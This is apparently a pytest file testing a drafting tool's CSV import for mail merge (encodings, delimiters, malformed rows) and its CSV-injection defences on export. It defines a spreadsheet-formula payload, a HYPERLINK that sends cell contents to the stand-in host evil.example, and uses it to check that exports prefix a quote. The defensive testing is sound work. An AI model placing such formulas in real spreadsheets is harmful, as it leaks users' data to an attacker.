"""CSV in and out: the recipients file of a mail merge, and the CSV that exports write."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import docx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from drafting.kinds import KINDS
from drafting.merge import column_choices, column_paths
from evidence.csvio import MAX_CELL, read_table, safe_cell, to_csv
from evidence.errors import CsvError, UserError
from tests.conftest import REPO, drafting

LETTER = REPO / "drafts" / "letter-to-childrens-commissioner.yaml"
MOTION = REPO / "drafts" / "motion-childrens-commissioner-programme.yaml"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


cli = drafting


def merge(tmp_path: Path, content: str | bytes, draft: Path = LETTER):
    """Merge ``draft`` with a recipients file of ``content``; the result and the folder."""
    recipients = tmp_path / "r.csv"
    if isinstance(content, bytes):
        recipients.write_bytes(content)
    else:
        recipients.write_text(content, encoding="utf-8", newline="")
    out = tmp_path / "out"
    return cli("render", draft, "--recipients", recipients, "-o", out, "--jobs", 1), out


def refused(tmp_path: Path, content: str | bytes, message: str, draft: Path = LETTER) -> str:
    """The merge exits 2 with ``message`` in one line and writes nothing."""
    result, out = merge(tmp_path, content, draft)
    assert result.exit_code == 2, result.output
    assert message in result.output, result.output
    assert "Traceback" not in result.output and len(result.output.strip().splitlines()) == 1
    assert not out.exists()
    return str(result.output)


def paragraphs(path: Path) -> list[str]:
    return [p.text for p in docx.Document(str(path)).paragraphs]


# --- reading a recipients file ------------------------------------------------------------------


def test_line_separators_inside_a_cell_do_not_split_the_row(tmp_path):
    """U+2028, U+0085, FF, VT and a quoted newline stay in their cell: one letter per row;
    in an address they separate its lines, in a name they are a space."""
    content = (
        "name,title,address\r\n"
        "Anne\u2028Longfield,Director,1 Road\u2028Town\r\n"
        'Bob\x85Smith,Chair,"2 Street\nCity"\r\n'
        "Carl\x0cJones,Chair,3 Lane\x0bVillage\r\n"
    )
    result, out = merge(tmp_path, content)
    assert result.exit_code == 0, result.output
    assert "3 written, 0 skipped (already there), 0 failed, of 3 row(s)" in result.output
    assert sorted(p.name for p in out.iterdir()) == [
        "001-anne-longfield.docx",
        "002-bob-smith.docx",
        "003-carl-jones.docx",
    ]
    second = paragraphs(out / "002-bob-smith.docx")
    assert "Bob Smith" in second and "2 Street" in second and "City" in second


def test_a_header_naming_a_column_twice_is_refused(tmp_path):
    """name,name: the column and both positions, not one silently dropped."""
    refused(
        tmp_path,
        "name,name,title\nFirst,Second,Director\n",
        "r.csv:1: column 'name' is named twice in the header (columns 1 and 2)",
    )


def test_two_columns_filling_one_field_are_refused(tmp_path):
    """name and recipient.name fill the same field: both named."""
    refused(
        tmp_path,
        "name,title,recipient.name\nA,B,C\n",
        "columns 'name' and 'recipient.name' both fill recipient.name (columns 1 and 3)",
    )


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_comma_semicolon_and_tab_files_are_read(tmp_path, delimiter):
    """Excel's European CSV (;) and its tab-separated text merge like a comma file."""
    rows = [
        ["name", "honorific", "title", "address"],
        ["Anne Longfield", "Ms", "Director", "1 Road; Town, County"],
    ]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    result, out = merge(tmp_path, buffer.getvalue())
    assert result.exit_code == 0, result.output
    letter = paragraphs(out / "001-anne-longfield.docx")
    assert "Dear Ms Longfield," in letter and "Town, County" in letter


def test_excel_unicode_text_utf16_is_read(tmp_path):
    """UTF-16 with its byte-order mark, tab-separated, as Excel saves "Unicode text"."""
    content = "name\thonorific\ttitle\r\nZoë Ångström\tDr\tDirector\r\n".encode("utf-16")
    result, out = merge(tmp_path, content)
    assert result.exit_code == 0, result.output
    assert "Dear Dr Ångström," in paragraphs(out / "001-zoe-angstrom.docx")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            "name,title\nA\ufffeB,Director\n".encode(),
            "r.csv:2: row 1, column 1 ('name'): contains "
            "the control character U+FFFE, which a document cannot hold. Remove it",
        ),
        (
            "name,title\nA,Dir\x01ector\n",
            "r.csv:2: row 1, column 2 ('title'): contains the control character U+0001",
        ),
        (
            "name,title\nA,B\n".encode("utf-16-le"),
            "r.csv: is not UTF-8 text (it holds NUL bytes: UTF-16 without its byte-order mark?)",
        ),
        (b"\xff\xfen\x00a\x00\x00\xd8", "r.csv: is not UTF-16 text"),
    ],
)
def test_a_damaged_file_is_one_line_naming_where(tmp_path, content, message):
    """Control characters name the row and column; a wrong encoding says which."""
    refused(tmp_path, content, message)


def test_a_cell_over_the_limit_names_its_row(tmp_path):
    """Over the csv module's own limit (128 KB) or over a spreadsheet cell's: one line."""
    refused(
        tmp_path,
        "name,title\nA,B\n" + "A" * 200_000 + ",Director\n",
        "r.csv:3: row 2: a cell is over 32,767 characters",
    )
    refused(
        tmp_path,
        'name,title\nA,"' + "B" * (MAX_CELL + 1) + '"\n',
        "r.csv:2: row 1, column 2 ('title'): the cell is over 32,767 characters",
    )


def test_rows_must_have_a_cell_per_column(tmp_path):
    """A short or long row is refused with its counts and the file's separator."""
    refused(
        tmp_path,
        "name,honorific,title\nA\n",
        "r.csv:2: row 1 has fewer cells (1) than the header (3). Give every row one cell "
        "per column, separated by commas",
    )
    refused(
        tmp_path,
        "name;title\nA;B;C\n",
        "r.csv:2: row 1 has more cells (3) than the "
        "header (2). Give every row one cell per column, separated by semicolons",
    )


def test_an_unnamed_column_with_values_is_refused_and_an_empty_one_dropped(tmp_path):
    """An empty header cell over a value is an error; over nothing (Excel's trailing
    separators) it is left out; blank rows are skipped."""
    refused(
        tmp_path,
        "name,,title\nA,x,Director\n",
        "r.csv:2: column 2 has no name in the header, but row 1 has a value in it",
    )
    result, out = merge(tmp_path, "name,title,,\nA One,Director,,\n,,,\n\nB Two,Chair,,\n")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == ["001-a-one.docx", "002-b-two.docx"]


def test_a_suggestion_never_offers_the_column_itself(tmp_path):
    """A motion has no recipient: 'honorific' is not offered for 'honorific'; nor 'kind'."""
    message = refused(
        tmp_path,
        "honorific\nMs\n",
        "column 'honorific' names no field of a motion. A motion has no recipient",
        draft=MOTION,
    )
    assert "Did you mean" not in message
    for kind in KINDS.values():
        choices = column_choices(kind)
        for name in ("kind", "recipient", "name", "to", "meeting", "x.y"):
            if name in choices:
                continue
            with pytest.raises(UserError) as caught:
                column_paths(kind, [name], Path("r.csv"))
            hint = caught.value.hint or ""
            assert name not in hint.removeprefix("Did you mean: ").rstrip("?").split(", ")


TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12)
BREAKS = "\r\n", "\r", "\n", "\v", "\f", "\x85", "\u2028", "\u2029"


def _as_read(cell: str) -> str:
    for mark in BREAKS:
        cell = cell.replace(mark, "\n")
    return cell


@settings(max_examples=200, deadline=None)
@given(
    rows=st.lists(st.tuples(TEXT, TEXT), min_size=1, max_size=5),
    delimiter=st.sampled_from([",", ";", "\t"]),
)
def test_what_a_spreadsheet_writes_is_read_back_or_refused(tmp_path_factory, rows, delimiter):
    """Any cells written by a CSV writer come back (line breaks as LF) or are one error."""
    path = tmp_path_factory.mktemp("csv") / "r.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=delimiter).writerows([("a", "b"), *rows])
    expected = [tuple(_as_read(c) for c in row) for row in rows]
    expected = [row for row in expected if any(c.strip() for c in row)]
    try:
        table = read_table(path, max_bytes=2**20, max_rows=10)
    except CsvError as exc:
        message = "control character" if expected else "has a header but no rows"
        assert "\n" not in str(exc) and message in str(exc), str(exc)
        return
    assert table.header == ("a", "b") and table.delimiter == delimiter
    assert [row.cells for row in table.rows] == expected


def test_the_bundled_recipients_still_merge(tmp_path):
    """drafts/recipients.csv: three letters, as before."""
    result, out = merge(tmp_path, (REPO / "drafts" / "recipients.csv").read_bytes())
    assert result.exit_code == 0, result.output
    assert len(list(out.iterdir())) == 3


# --- writing CSV ---------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "=1"])
def test_a_would_be_formula_gets_a_leading_quote(value):
    """OWASP's list: = + - @ tab CR."""
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["-5", "+3.5", "-12%", "-1,234.5", "232", "Ofsted", "", " =1", 7, None]
)
def test_numbers_and_plain_text_are_left_alone(value):
    """A negative number stays a number; text not starting a formula, and non-text, as is."""
    assert safe_cell(value) == value


def test_to_csv_round_trips_through_the_csv_module():
    """What a spreadsheet would run comes back with one quote; the rest unchanged."""
    text = to_csv(("a", "b"), [[FORMULA, 'x,\n"y"'], ["-5", None]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["a", "b"],
        ["'" + FORMULA, 'x,\n"y"'],
        ["-5", ""],
    ]


@given(st.lists(st.text(max_size=8), min_size=1, max_size=4))
def test_no_cell_read_back_starts_a_formula(cells):
    """Each cell comes back as written or with one leading quote; none starts a formula
    unless it is a plain number."""
    back = list(csv.reader(io.StringIO(to_csv(["h"] * len(cells), [cells]), newline="")))[1]
    for before, after in zip(cells, back, strict=True):
        assert after in (before, "'" + before)
        assert (
            not after.startswith(("=", "+", "-", "@", "\t", "\r"))
            or after.lstrip("+-").replace(".", "").replace(",", "").rstrip("%").isdigit()
        )


@pytest.fixture
def hostile_dossier(bundled_copy: Path) -> Path:
    """The bundled dossier with a fact whose statement is a spreadsheet formula."""
    facts = bundled_copy / "facts.yaml"
    text = facts.read_text(encoding="utf-8")
    old = (
        "statement: Ofsted judged Northamptonshire County Council's children's services "
        "inadequate in 2013."
    )
    assert old in text
    facts.write_text(
        text.replace(old, "statement: '" + FORMULA.replace("'", "''") + "'"), encoding="utf-8"
    )
    return bundled_copy


def test_the_facts_export_writes_no_formula(hostile_dossier, tmp_path):
    """evidence export --format csv: the statement starts with ' in the file."""
    out = tmp_path / "facts.csv"
    result = cli("evidence", "export", "--format", "csv", "-o", out, dossier=hostile_dossier)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    row = next(r for r in rows if r["fact"] == "ofsted-2013-inadequate")
    assert row["statement"] == "'" + FORMULA
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_the_review_csv_writes_no_formula(hostile_dossier):
    """review --format csv: the cited fact's statement starts with '."""
    result = cli("review", LETTER, "--format", "csv", dossier=hostile_dossier)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    row = next(r for r in rows if r["fact_id"] == "ofsted-2013-inadequate")
    assert row["statement"] == "'" + FORMULA
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
